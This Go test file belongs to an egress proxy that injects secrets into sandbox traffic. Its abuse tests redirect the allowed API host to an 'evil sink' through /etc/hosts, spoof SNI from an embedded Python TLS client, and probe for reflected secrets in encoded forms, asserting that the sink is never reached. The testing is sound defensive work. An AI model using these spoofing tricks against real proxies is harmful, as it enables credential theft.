package egress

import (
	"encoding/base64"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/hutchdev/hutch/internal/egress/egresstest"
	"github.com/hutchdev/hutch/internal/egress/policy"
	"github.com/hutchdev/hutch/internal/netns"
)

// nsHosts makes `ip netns exec` inside n see content as /etc/hosts (it bind-mounts
// /etc/netns/<name>/hosts) until t ends.
func nsHosts(t *testing.T, n *netns.Net, content string) {
	t.Helper()
	dir := filepath.Join("/etc/netns", filepath.Base(n.NSPath))
	if _, err := os.Stat(dir); err == nil {
		t.Fatalf("%s exists: not ours to change", dir)
	}
	if err := os.MkdirAll(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(dir) })
	if err := os.WriteFile(filepath.Join(dir, "hosts"), []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
}

// rawTLSClient is a Python TLS client that connects to the address argv[1] (whatever the
// name resolves to) with SNI argv[2], trusting the CA file argv[3], and prints the raw HTTP
// response to GET /headers.
const rawTLSClient = `
import socket, ssl, sys
ctx = ssl.create_default_context(cafile=sys.argv[3])
s = socket.create_connection((sys.argv[1], 443), timeout=20)
t = ctx.wrap_socket(s, server_hostname=sys.argv[2])
t.sendall(("GET /headers HTTP/1.1\r\nHost: %s\r\nAuthorization: Bearer mine\r\nConnection: close\r\n\r\n" % sys.argv[2]).encode())
out = b""
while True:
    b = t.recv(65536)
    if not b:
        break
    out += b
sys.stdout.write(out.decode())
`

// TestAbuseSpoofedDestination is EGRESS.md §10 abuse test 1 beyond the --resolve case of
// TestInterceptInjectsAndRedacts: /etc/hosts pointing the allowed name at the evil sink (TLS
// and plain HTTP), and a raw Python TLS client connecting to the sink's IP with SNI
// api.example.test. Every request lands on the real api with the injected header; the sink
// sees nothing.
func TestAbuseSpoofedDestination(t *testing.T) {
	ih, sb := newInterceptHarness(t, map[string]string{"API_TOKEN": apiToken}, policy.Spec{
		Rules: []policy.Rule{{ID: "api", Hosts: []string{"api.example.test"}, Action: policy.ActionInject,
			Inject: &policy.Inject{SetHeaders: map[string]string{"Authorization": "Bearer ${secrets.API_TOKEN}"}}}},
	})
	check := func(t *testing.T, what, out string) {
		t.Helper()
		if !strings.Contains(out, `"host":"api.example.test"`) || strings.Contains(out, apiToken) || !strings.Contains(out, "[redacted:API_TOKEN]") {
			t.Fatalf("%s: response %q", what, out)
		}
		reqs := ih.net.APIRequests()
		if last := reqs[len(reqs)-1]; last.Header.Get("Authorization") != "Bearer "+apiToken || !last.TLS {
			t.Fatalf("%s: the api saw tls %v auth %q", what, last.TLS, last.Header.Get("Authorization"))
		}
		for _, h := range ih.net.SinkHits() {
			t.Fatalf("%s: the sink was reached: %+v", what, h)
		}
	}

	t.Run("/etc/hosts names the sink", func(t *testing.T) {
		nsHosts(t, sb, "127.0.0.1 localhost\n"+egresstest.SinkIP+" api.example.test\n")
		if out, err := run(sb, "getent", "hosts", "api.example.test"); err != nil || !strings.HasPrefix(out, egresstest.SinkIP) {
			t.Fatalf("the sandbox does not resolve to the sink (%v): %q", err, out)
		}
		for _, u := range []string{"https://api.example.test/headers", "http://api.example.test/headers"} {
			body, status, err := curl(sb, "--cacert", ih.caFile, "-H", "Authorization: Bearer mine", u)
			if err != nil || status != "200" {
				t.Fatalf("%s: %s %v %s", u, status, err, body)
			}
			check(t, u, body)
		}
	})

	t.Run("raw TLS client to the sink's IP with SNI api.example.test", func(t *testing.T) {
		if _, err := exec.LookPath("python3"); err != nil {
			t.Skip("needs python3")
		}
		out, err := run(sb, "python3", "-c", rawTLSClient, egresstest.SinkIP, "api.example.test", ih.caFile)
		if err != nil || !strings.HasPrefix(out, "HTTP/1.1 200") {
			t.Fatalf("python: %v %q", err, out)
		}
		check(t, "python", out)
	})
}

// TestAbuseReflection is EGRESS.md §10 abuse test 7: the echo endpoint of the injected host,
// asked with gzip accepted, over h2, and through a 302 to another allowed host without rules,
// never shows the sandbox a real secret in any form (raw, base64, the Basic credential, URL
// encoded), in headers or body; the redirected request carries no injected header.
func TestAbuseReflection(t *testing.T) {
	// A secret whose URL-encoded and base64 forms differ from the raw one.
	const secretValue = "tok/live+0123456789=abc def"
	ih, sb := newInterceptHarness(t, map[string]string{"API_TOKEN": secretValue}, policy.Spec{
		Rules: []policy.Rule{{ID: "api", Hosts: []string{"api.example.test"}, Action: policy.ActionInject,
			Inject: &policy.Inject{
				SetHeaders: map[string]string{"X-Api-Key": "${secrets.API_TOKEN}", "X-Api-Key-Query": "k=${secrets.API_TOKEN}"},
				BasicAuth:  &policy.BasicAuth{Username: "x-access-token", Password: "${secrets.API_TOKEN}"},
			}}},
	})
	forms := map[string]string{
		"raw":          secretValue,
		"url-encoded":  url.QueryEscape(secretValue),
		"path-encoded": url.PathEscape(secretValue),
		"base64":       base64.StdEncoding.EncodeToString([]byte(secretValue)),
		"basic":        base64.StdEncoding.EncodeToString([]byte("x-access-token:" + secretValue)),
	}
	both := filepath.Join(t.TempDir(), "both.pem")
	sbCA, _ := os.ReadFile(ih.caFile)
	if err := os.WriteFile(both, append(sbCA, ih.net.CAPEM...), 0o644); err != nil {
		t.Fatal(err)
	}
	for _, tc := range []struct {
		name string
		args []string
	}{
		{"gzip decoded by curl", []string{"--compressed", "https://api.example.test/headers"}},
		{"gzip asked, raw bytes kept", []string{"-H", "Accept-Encoding: gzip", "https://api.example.test/headers"}},
		{"h2", []string{"--http2", "--compressed", "https://api.example.test/headers"}},
		{"302 to another allowed host", []string{"-L", "https://api.example.test/redirect?to=https://other.example.test/headers"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			// -D - puts every response's headers (each hop of a redirect) into the output.
			out, status, err := curl(sb, append([]string{"--cacert", both, "-D", "-"}, tc.args...)...)
			if err != nil || status != "200" {
				t.Fatalf("%s %v %s", status, err, out)
			}
			if tc.name == "h2" && !strings.HasPrefix(out, "HTTP/2 200") {
				t.Fatalf("not h2: %q", out[:min(len(out), 40)])
			}
			for name, f := range forms {
				if strings.Contains(out, f) {
					t.Errorf("the sandbox saw the secret's %s form: %s", name, out)
				}
			}
			reqs := ih.net.APIRequests()
			last := reqs[len(reqs)-1]
			if strings.HasPrefix(tc.name, "302") {
				if last.Host != "other.example.test" || last.Header.Get("Authorization") != "" || last.Header.Get("X-Api-Key") != "" || last.Header.Get("X-Api-Key-Query") != "" {
					t.Fatalf("redirected request: host %s headers %v", last.Host, last.Header)
				}
				if !strings.Contains(out, `"host":"other.example.test"`) {
					t.Fatalf("redirect not followed: %s", out)
				}
				return
			}
			if last.Header.Get("X-Api-Key") != secretValue || !strings.Contains(out, "[redacted:API_TOKEN]") || !strings.Contains(out, "[redacted:basic-auth]") {
				t.Fatalf("injection or redaction missing: upstream %v, sandbox saw %s", last.Header, out)
			}
		})
	}
	for _, h := range ih.net.SinkHits() {
		t.Errorf("sink reached: %+v", h)
	}
}
